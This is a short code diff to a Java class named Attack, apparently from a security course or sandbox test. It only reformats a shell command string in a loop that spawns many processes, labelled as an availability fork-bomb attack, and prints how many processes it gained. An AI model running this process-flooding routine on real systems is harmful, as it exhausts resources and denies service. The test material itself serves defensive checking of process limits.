@@ -16,8 +16,8 @@ final class Attack {
     static void attack() throws IOException {
         for (int count = 0; count < MANY; count++) {
             new ProcessBuilder(List.of("sh", "-c",
-                    "(sleep 6 & sleep 6 & sleep 6); read end; : course-attack-availability-fork-bomb"))
-                    .start();
+                    "(sleep 6 & sleep 6 & sleep 6); read end;"
+                            + " : course-attack-availability-fork-bomb")).start();
         }
         System.out.println("GAINED " + MANY + " processes");
     }
